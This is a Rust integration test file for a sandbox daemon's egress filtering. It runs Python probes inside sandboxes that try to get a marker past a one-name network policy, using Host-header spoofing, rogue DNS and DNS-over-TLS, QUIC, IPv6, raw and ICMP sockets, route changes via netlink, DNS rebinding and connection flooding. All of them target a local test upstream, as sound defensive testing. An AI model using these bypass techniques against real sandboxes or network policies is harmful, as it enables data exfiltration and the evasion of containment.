//! Class N, egress bypasses (issue 13 scope 8, research/network.md cases 9–17, ADR 0069):
//! sandboxes *with* a policy that opens one name try every way around it. Each case is
//! judged by the bytes that reached a test upstream (a denied `connect()` may appear to
//! succeed), and each with a control must show the escape against a weakened build.
//!
//! The upstream is a netns of the test's own (`tbt-sec-<pid>`) joined to the host by a
//! veth (host `10.250.N.1/30` + `fd7b:N::1/64`, netns `.2` / `::2`) running
//! `tests/network/upstream.py` (HTTP 80/8080, sinks on TCP 443/853/9000/53, UDP 443/5000,
//! ICMP, IPv6 TCP 9000, a stub DNS that answers `rebind*` names with a floor address).
//! Host-side listeners record what reaches the host's end (`10.250.N.1:80`) and the floor
//! address (`10.249.N.1`, on the host's end, not excepted). The daemon excepts only the
//! veth's /30 from the floor.

use super::harness::*;
use std::collections::BTreeMap;
use std::io::Read;
use std::net::TcpListener;
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use threadbox_api::{CreateSandboxRequest, ExecRequest, LimitsRequest, StartProcessRequest, User};

const DEADLINE: Duration = Duration::from_secs(30);

fn ip(args: &[&str]) -> bool {
    Command::new("ip")
        .args(args)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

/// A host-side TCP listener that records every byte it receives.
struct Recorder {
    port: u16,
    bytes: Arc<Mutex<Vec<u8>>>,
}

impl Recorder {
    fn bind(addr: &str) -> Recorder {
        let l = TcpListener::bind(addr).unwrap_or_else(|e| panic!("bind {addr}: {e}"));
        let port = l.local_addr().expect("addr").port();
        let bytes = Arc::new(Mutex::new(Vec::new()));
        let b = bytes.clone();
        std::thread::spawn(move || {
            for mut c in l.incoming().flatten() {
                let b = b.clone();
                std::thread::spawn(move || {
                    let mut buf = [0u8; 4096];
                    while let Ok(n) = c.read(&mut buf) {
                        if n == 0 {
                            break;
                        }
                        b.lock().expect("lock").extend_from_slice(&buf[..n]);
                    }
                });
            }
        });
        Recorder { port, bytes }
    }

    fn text(&self) -> String {
        String::from_utf8_lossy(&self.bytes.lock().expect("lock")).into_owned()
    }
}

pub struct Up {
    ns: String,
    host_if: String,
    server: Option<Child>,
    dir: tempfile::TempDir,
    /// `10.250.N`
    net: String,
    n: u32,
    host80: Option<Recorder>,
    rebind: Option<Recorder>,
}

impl Up {
    pub fn start() -> Up {
        Up::start_inner(false)
    }

    /// With an HTTPS server on 443 (signed by a test CA, `ca_file`) instead of the raw
    /// sink there: the secrets cases (`egress_secrets.rs`).
    pub fn start_tls() -> Up {
        Up::start_inner(true)
    }

    fn start_inner(tls: bool) -> Up {
        // A new subnet (and names) for every upstream of this process: the host-side
        // recorders' listener threads outlive their `Up` (they block in `accept`), so a
        // second upstream on the same 10.250.N.1 would find port 80 still bound.
        static NEXT: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
        let k = NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let pid = std::process::id();
        let used = Command::new("ip")
            .args(["-o", "addr", "show"])
            .output()
            .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
            .unwrap_or_default();
        let n = (0..250)
            .map(|i| (pid.wrapping_mul(17).wrapping_add(k * 53 + i)) % 250 + 1)
            .find(|n| {
                !used.contains(&format!(" 10.250.{n}.")) && !used.contains(&format!(" 10.249.{n}."))
            })
            .expect("a free 10.250.N/30");
        let mut up = Up {
            ns: format!("tbt-sec-{pid}-{k}"),
            host_if: format!("tbsh{pid}{k}"),
            server: None,
            dir: tempfile::Builder::new()
                .prefix("tb-sec-up-")
                .tempdir()
                .expect("dir"),
            net: format!("10.250.{n}"),
            n,
            host80: None,
            rebind: None,
        };
        let peer = format!("tbsp{pid}{k}");
        let (h4, p4) = (format!("{}.1/30", up.net), format!("{}.2/30", up.net));
        let (h6, p6) = (format!("fd7b:{n:x}::1/64"), format!("fd7b:{n:x}::2/64"));
        let floor_addr = format!("{}/32", up.rebind_addr());
        for args in [
            vec!["netns", "add", &up.ns],
            vec![
                "link",
                "add",
                &up.host_if,
                "type",
                "veth",
                "peer",
                "name",
                &peer,
            ],
            vec!["link", "set", &peer, "netns", &up.ns],
            vec!["addr", "add", &h4, "dev", &up.host_if],
            vec!["addr", "add", &floor_addr, "dev", &up.host_if],
            vec!["-6", "addr", "add", &h6, "dev", &up.host_if, "nodad"],
            vec!["link", "set", &up.host_if, "up"],
            vec!["-n", &up.ns, "addr", "add", &p4, "dev", &peer],
            vec![
                "-n", &up.ns, "-6", "addr", "add", &p6, "dev", &peer, "nodad",
            ],
            vec!["-n", &up.ns, "link", "set", &peer, "up"],
            vec!["-n", &up.ns, "link", "set", "lo", "up"],
        ] {
            assert!(ip(&args), "ip {args:?} failed");
        }
        if tls {
            super::tls::write_tls(up.dir.path());
        }
        let script = up.dir.path().join("upstream.py");
        std::fs::write(&script, include_str!("../network/upstream.py")).expect("script");
        up.server = Some(
            Command::new("ip")
                .args(["netns", "exec", &up.ns, "python3"])
                .arg(&script)
                .arg(up.addr())
                .arg(up.dir.path())
                .arg(up.rebind_addr())
                .arg(up.addr6())
                .stdin(Stdio::null())
                .spawn()
                .expect("upstream servers"),
        );
        let ready = up.dir.path().join("ready");
        wait_for("the upstream servers", DEADLINE, || ready.exists());
        up.host80 = Some(Recorder::bind(&format!("{}.1:80", up.net)));
        up.rebind = Some(Recorder::bind(&format!("{}:0", up.rebind_addr())));
        up
    }

    pub fn addr(&self) -> String {
        format!("{}.2", self.net)
    }
    fn addr6(&self) -> String {
        format!("fd7b:{:x}::2", self.n)
    }
    /// An address on the floor (private, not excepted) that the host answers on.
    fn rebind_addr(&self) -> String {
        format!("10.249.{}.1", self.n)
    }
    fn rebind_port(&self) -> u16 {
        self.rebind.as_ref().map_or(0, |r| r.port)
    }

    /// The test CA of the HTTPS server (`start_tls`); the daemon trusts it with
    /// `--egress-upstream-ca`, sandboxes never do.
    pub fn ca_file(&self) -> std::path::PathBuf {
        self.dir.path().join("tls-ca.pem")
    }

    /// What reached `log`: an upstream log file, or `host80` / `rebind` (host listeners).
    pub fn seen(&self, log: &str) -> String {
        match log {
            "host80" => self.host80.as_ref().map(Recorder::text).unwrap_or_default(),
            "rebind" => self.rebind.as_ref().map(Recorder::text).unwrap_or_default(),
            f => std::fs::read(self.dir.path().join(f))
                .map(|b| String::from_utf8_lossy(&b).into_owned())
                .unwrap_or_default(),
        }
    }

    /// `serve` flags: DNS from the stub, only the veth's /30 off the floor.
    pub fn serve_args(&self) -> Vec<String> {
        vec![
            "--egress-dns".into(),
            format!("{}:53", self.addr()),
            "--egress-allow-private".into(),
            format!("{}.0/30", self.net),
        ]
    }
}

impl Drop for Up {
    fn drop(&mut self) {
        if let Some(mut c) = self.server.take() {
            let _ = c.kill();
            let _ = c.wait();
        }
        let _ = ip(&["netns", "del", &self.ns]);
        let _ = ip(&["link", "del", &self.host_if]);
    }
}

pub struct NetCase {
    pub id: &'static str,
    pub what: &'static str,
    pub user: User,
    /// Python; `MARK` is in its environment and is what it tries to get out.
    pub code: &'static str,
    /// Where the marker must never arrive (upstream logs or host listeners).
    pub forbidden: &'static [&'static str],
    pub control: Option<&'static str>,
}

const PY_BASE: &str = r##"
import os, socket, struct, time
MARK = os.environ['MARK'].encode()
UP = os.environ['UP']
def tcp(host, port, data, family=socket.AF_INET):
    try:
        s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(3)
        s.connect((host, port)); s.sendall(data)
        try: s.recv(100)
        except OSError: pass
        s.close(); print('sent', host, port)
    except OSError as e:
        print('held', host, port, e)
def udp(host, port, data):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(data, (host, port)); print('sent udp', host, port)
    except OSError as e:
        print('held udp', host, port, e)
def dnsq(name, qtype=1):
    q = struct.pack('!HHHHHH', 0x1234, 0x100, 1, 0, 0, 0)
    for l in name.split('.'):
        q += bytes([len(l)]) + l.encode()
    return q + b'\0' + struct.pack('!HH', qtype, 1)
"##;

pub fn cases() -> Vec<NetCase> {
    vec![
        NetCase {
            id: "N1",
            what: "HTTP to another IP naming an allowed Host is dialled by the name, not the IP",
            user: User::User,
            code: r##"
tcp(os.environ['HOST_END'], 80, b'GET /' + MARK + b' HTTP/1.1\r\nHost: api.test\r\n\r\n')
"##,
            forbidden: &["host80"],
            control: Some("shared-netns"),
        },
        NetCase {
            id: "N2",
            what: "TLS to an IP without SNI (and non-TLS bytes on 443) reach nothing",
            user: User::User,
            code: r##"
sid = MARK[:32].ljust(32, b'-')
body = b'\x03\x03' + b'\x11' * 32 + bytes([32]) + sid + b'\x00\x02\x13\x01' + b'\x01\x00' + b'\x00\x00'
hs = b'\x01' + len(body).to_bytes(3, 'big') + body
tcp(UP, 443, b'\x16\x03\x01' + len(hs).to_bytes(2, 'big') + hs)
tcp(UP, 443, b'NOTTLS ' + MARK)
"##,
            forbidden: &["tls.log"],
            control: Some("shared-netns"),
        },
        NetCase {
            id: "N3",
            what: "other resolvers: UDP 53 to another IP, DNS over TCP, DNS over TLS (853)",
            user: User::User,
            code: r##"
name = MARK.decode().lower() + '.leak.test'
udp(UP, 53, dnsq(name))
q = dnsq(name)
tcp(UP, 53, len(q).to_bytes(2, 'big') + q)
tcp(UP, 853, b'\x16\x03\x01' + MARK)
time.sleep(0.5)
"##,
            forbidden: &["dns.log", "dnstcp.log", "dot.log"],
            control: Some("shared-netns"),
        },
        NetCase {
            id: "N4",
            what: "QUIC (UDP 443) and other UDP reach nothing",
            user: User::User,
            code: r##"
udp(UP, 443, b'\xc3\x00\x00\x00\x01' + MARK)
udp(UP, 5000, MARK)
time.sleep(0.5)
"##,
            forbidden: &["udp.log"],
            control: Some("shared-netns"),
        },
        NetCase {
            id: "N5",
            what: "IPv6 (and IPv4-mapped IPv6) reach nothing",
            user: User::User,
            code: r##"
tcp(os.environ['UP6'], 9000, MARK, socket.AF_INET6)
tcp('::ffff:' + UP, 9000, MARK, socket.AF_INET6)
"##,
            forbidden: &["sink6.log", "sink.log"],
            control: Some("shared-netns"),
        },
        NetCase {
            id: "N6",
            what: "ICMP echo, raw IP and packet sockets carry nothing out (as root)",
            user: User::Root,
            code: r##"
def csum(b):
    if len(b) % 2: b += b'\0'
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b)); s = (s >> 16) + (s & 0xffff); s += s >> 16
    return (~s) & 0xffff
echo = struct.pack('!BBHHH', 8, 0, 0, 1, 1) + MARK
echo = echo[:2] + struct.pack('!H', csum(echo)) + echo[4:]
for kind, proto in (('ping', socket.SOCK_DGRAM), ('raw', socket.SOCK_RAW)):
    try:
        s = socket.socket(socket.AF_INET, proto, socket.IPPROTO_ICMP); s.sendto(echo, (UP, 0)); print('sent', kind)
    except OSError as e:
        print('held', kind, e)
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    s.sendto(struct.pack('!HHHH', 4444, 5000, 8 + len(MARK), 0) + MARK, (UP, 0)); print('sent raw udp')
except OSError as e:
    print('held raw udp', e)
try:
    socket.socket(17, socket.SOCK_RAW, 0x0300); print('packet socket made')
except OSError as e:
    print('held packet', e)
time.sleep(0.5)
"##,
            forbidden: &["icmp.log", "udp.log"],
            control: Some("shared-netns,host-userns,keep-caps,no-seccomp"),
        },
        NetCase {
            id: "N7",
            what: "netlink cannot change the route or the table; a denied address stays denied",
            user: User::Root,
            code: r##"
import subprocess
for cmd in (['ip', 'route', 'del', 'local', '0.0.0.0/0', 'dev', 'lo', 'table', 'local'],
            ['ip', 'route', 'add', 'default', 'dev', 'lo']):
    r = subprocess.run(cmd, capture_output=True, text=True); print(cmd[1:3], r.returncode, r.stderr.strip())
try:
    socket.socket(16, socket.SOCK_RAW, 12); print('netfilter netlink socket made')
except OSError as e:
    print('held nfnetlink', e)
tcp(UP, 9000, MARK)
"##,
            forbidden: &["sink.log"],
            control: Some("shared-netns"),
        },
        NetCase {
            id: "N8",
            what: "DNS rebinding: an allowed name answering a floor address is never dialled",
            user: User::User,
            code: r##"
port = int(os.environ['REBIND_PORT'])
try:
    print('resolved', socket.gethostbyname('rebind.test'))
except OSError as e:
    print('no answer', e)
tcp('rebind.test', port, MARK)
"##,
            forbidden: &["rebind"],
            control: Some("egress-no-floor"),
        },
        NetCase {
            id: "N9",
            what: "the redirect port and the DNS address cannot be bound from inside",
            user: User::Root,
            code: r##"
for fam, kind, addr in ((socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', 1)),
                        (socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.53', 53)),
                        (socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.53', 53))):
    s = socket.socket(fam, kind)
    try:
        s.bind(addr); print('ESCAPE bound', addr)
    except OSError as e:
        print('held', addr, e)
"##,
            forbidden: &[],
            control: None,
        },
    ]
}

/// The policy of every case: one name, on the upstream's ports (and the rebinding name).
fn policy(up: &Up) -> threadbox_api::network::NetworkPolicySpec {
    serde_json::from_value(serde_json::json!({"rules": [
        {"action": "allow", "host": "api.test", "ports": ["80", "443", "8080", "9000"]},
        {"action": "allow", "host": "rebind.test", "ports": [up.rebind_port().to_string()]},
    ]}))
    .expect("policy")
}

fn create(d: &Daemon, up: &Up, tier: &str) -> String {
    let req = CreateSandboxRequest {
        limits: LimitsRequest::default(),
        network: Some(policy(up)),
        tier: Some(tier.to_string()),
        ..Default::default()
    };
    block(d.client.create(&req))
        .unwrap_or_else(|e| panic!("create: {e}\n{}", d.log()))
        .0
        .id
}

/// Sends a fence to the upstream's sink by the allowed name and waits for it: what the
/// case sent before has been through the data plane by then.
fn fence(d: &Daemon, id: &str, up: &Up) {
    let f = format!("FENCE{}", random_hex());
    d.sh(
        id,
        User::User,
        &format!(
            "python3 -c \"import socket; s = socket.create_connection(('api.test', 9000), \
             timeout=3); s.sendall(b'{f}'); s.close()\""
        ),
    );
    let direct = d
        .weaken
        .as_deref()
        .is_some_and(|w| w.contains("shared-netns"));
    if !direct {
        wait_for("the fence", DEADLINE, || up.seen("sink.log").contains(&f));
    }
}

/// Runs one case; the list of what escaped (empty: held) and the case's output.
pub fn run(d: &Daemon, up: &Up, case: &NetCase, tier: &str) -> (Vec<String>, String) {
    let id = create(d, up, tier);
    let mark = format!("{}M{}", case.id, &random_hex()[..12]);
    let mut env = BTreeMap::new();
    env.insert("MARK".to_string(), mark.clone());
    env.insert("UP".into(), up.addr());
    env.insert("UP6".into(), up.addr6());
    env.insert("HOST_END".into(), format!("{}.1", up.net));
    env.insert("REBIND_PORT".into(), up.rebind_port().to_string());
    let code = format!("{PY_BASE}\n{}", case.code);
    let r = d.exec(
        &id,
        &ExecRequest {
            command: Some(vec!["python3".into(), "-c".into(), code]),
            env,
            user: case.user,
            timeout_secs: Some(60.0),
            ..Default::default()
        },
    );
    let out = format!("{}{}", r.stdout, r.stderr);
    fence(d, &id, up);
    let mut escaped: Vec<String> = out
        .lines()
        .filter(|l| l.contains("ESCAPE"))
        .map(str::to_string)
        .collect();
    for log in case.forbidden {
        let seen = up.seen(log);
        if seen.contains(&mark) || seen.to_lowercase().contains(&mark.to_lowercase()) {
            escaped.push(format!("the marker reached {log}"));
        }
    }
    let _ = block(d.client.delete(&id, true));
    (escaped, out)
}

/// Connection exhaustion: a sandbox holding far more connections than its cap gets no
/// more than the cap through, and a neighbour's request still arrives. Returns how many of
/// the hog's connections reached the sink.
pub fn exhaustion(d: &Daemon, up: &Up, tier: &str) -> usize {
    let hog = create(d, up, tier);
    let neighbour = create(d, up, tier);
    let tag = format!("H{}", &random_hex()[..8]);
    // The hog counts the connections the daemon did not drop at once (over the cap it
    // accepts and resets), so the host knows how many byte streams to wait for.
    let script = format!(
        r#"import select, socket, time
conns = []
# Resolved once (a pin), so the DNS rate cap is not what stops it.
ip = socket.gethostbyname('api.test')
for i in range(300):
    try:
        s = socket.create_connection((ip, 9000), timeout=1)
        s.sendall(b'{tag}-%d;' % i)
        conns.append(s)
    except OSError:
        pass
dropped, _, _ = select.select(conns, [], [], 1.0)
open('/tmp/held.tmp', 'w').write(str(len(conns) - len(dropped)))
import os; os.rename('/tmp/held.tmp', '/tmp/held')
time.sleep(120)
"#
    );
    d.write(&hog, "/tmp/hog.py", User::User, script.as_bytes());
    block(d.client.start_process(
        &hog,
        &StartProcessRequest {
            command: Some(vec!["python3".into(), "/tmp/hog.py".into()]),
            ..Default::default()
        },
    ))
    .expect("hog");
    let mut open = 0usize;
    wait_for("the hog's connections", Duration::from_secs(120), || {
        let r = d.sh(&hog, User::User, "cat /tmp/held");
        open = r.stdout.trim().parse().unwrap_or(0);
        r.exit_code == Some(0)
    });
    // Every stream the hog holds within the cap arrives (over it, the daemon resets at
    // accept, so nothing comes later); a control waits for one more than the cap.
    let want = open.min(if d.weaken.is_some() { 257 } else { 256 });
    let count = |up: &Up| up.seen("sink.log").matches(&format!("{tag}-")).count();
    let deadline = Instant::now() + Duration::from_secs(60);
    while count(up) < want && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    eprintln!("N10: the hog holds {open} connections");
    // The neighbour, while the hog holds everything it could get.
    let path = format!("/neighbour-{}", random_hex());
    let started = Instant::now();
    let r = d.sh(
        &neighbour,
        User::User,
        &format!("curl -sS --max-time 20 http://api.test:8080{path}"),
    );
    assert_eq!(
        r.exit_code,
        Some(0),
        "the neighbour's egress failed while a sandbox exhausted its own: {}{}",
        r.stdout,
        r.stderr
    );
    wait_for("the neighbour's request", DEADLINE, || {
        up.seen("http.log").contains(&path)
    });
    eprintln!(
        "N10: neighbour answered in {:?} while the hog held its connections",
        started.elapsed()
    );
    let n = count(up);
    let _ = block(d.client.delete(&hog, true));
    let _ = block(d.client.delete(&neighbour, true));
    n
}

pub fn held_everywhere() {
    let _s = serial();
    let up = Up::start();
    let args = up.serve_args();
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let d = Daemon::start_with(&normal_bins(), None, &args);
    let mut failed = Vec::new();
    // On every tier under test with egress (ADR 0123; gvisor: ADR 0140).
    for tier in super::tiers::under_test() {
        if super::tiers::runs_on(&tier, &tiers_json(&d), &["egress"]) {
            held_on(&d, &up, &tier, &mut failed);
        }
    }
    assert!(failed.is_empty(), "egress bypasses:\n{}", failed.join("\n"));
}

/// `GET /v1/tiers` as `threadbox tiers --json` prints it.
pub fn tiers_json(d: &Daemon) -> serde_json::Value {
    let list = block(d.client.call(&threadbox_api::tiers::ListTiers))
        .unwrap_or_else(|e| panic!("tiers: {e}"));
    serde_json::to_value(list).expect("tiers as JSON")
}

fn held_on(d: &Daemon, up: &Up, tier: &str, failed: &mut Vec<String>) {
    for case in cases() {
        let (escaped, out) = run(d, up, &case, tier);
        eprintln!(
            "[{tier}] {} {}: {}",
            case.id,
            case.what,
            if escaped.is_empty() {
                "held"
            } else {
                "ESCAPED"
            }
        );
        if !escaped.is_empty() {
            failed.push(format!(
                "[{tier}] {} ({}): {escaped:?}\n{out}",
                case.id, case.what
            ));
        }
    }
    let n = exhaustion(d, up, tier);
    eprintln!("[{tier}] N10: {n} of the hog's 300 connections reached the sink (cap 256)");
    if n > 256 {
        failed.push(format!(
            "[{tier}] N10: {n} connections got through a cap of 256"
        ));
    }
}

pub fn controls_detect() {
    let _s = serial();
    let weak = weakened_bins();
    let up = Up::start();
    let args = up.serve_args();
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let mut missed = Vec::new();
    for tier in super::tiers::under_test() {
        controls_on(&weak, &up, &args, &tier, &mut missed);
    }
    assert!(
        missed.is_empty(),
        "controls that missed:\n{}",
        missed.join("\n")
    );
}

fn controls_on(weak: &Bins, up: &Up, args: &[&str], tier: &str, missed: &mut Vec<String>) {
    let only = std::env::var("THREADBOX_SECURITY_CASES").ok();
    {
        let d = Daemon::start_with(weak, None, args);
        if !super::tiers::runs_on(tier, &tiers_json(&d), &["egress"]) {
            return;
        }
    }
    for case in cases() {
        let Some(control) = case.control else {
            continue;
        };
        // N6's control (raw sockets: host userns, kept capabilities, no seccomp) needs
        // weakenings the gvisor launch does not honour yet: the sentry still refuses the
        // raw socket, so the control cannot show the escape there. The case itself runs
        // and holds on gvisor; its probes are proven by the jail's control.
        if tier == "gvisor" && case.id == "N6" {
            eprintln!("[gvisor] N6 control ({control}): not run, the gvisor launch does not honour these weakenings yet");
            continue;
        }
        if only
            .as_deref()
            .is_some_and(|o| !o.split(',').any(|c| c == case.id))
        {
            continue;
        }
        let d = Daemon::start_with(weak, Some(control), args);
        let (escaped, out) = run(&d, up, &case, tier);
        eprintln!(
            "[{tier}] {} control ({control}): {}",
            case.id,
            if escaped.is_empty() {
                "MISSED"
            } else {
                "detected"
            }
        );
        if escaped.is_empty() {
            missed.push(format!(
                "[{tier}] {} under {control} showed no escape:\n{out}",
                case.id
            ));
        }
    }
    if only
        .as_deref()
        .is_none_or(|o| o.split(',').any(|c| c == "N10"))
    {
        let d = Daemon::start_with(weak, Some("egress-no-conn-cap"), args);
        let n = exhaustion(&d, up, tier);
        eprintln!("[{tier}] N10 control (egress-no-conn-cap): {n} connections reached the sink");
        if n <= 256 {
            missed.push(format!(
                "[{tier}] N10 under egress-no-conn-cap: only {n} got through"
            ));
        }
    }
}
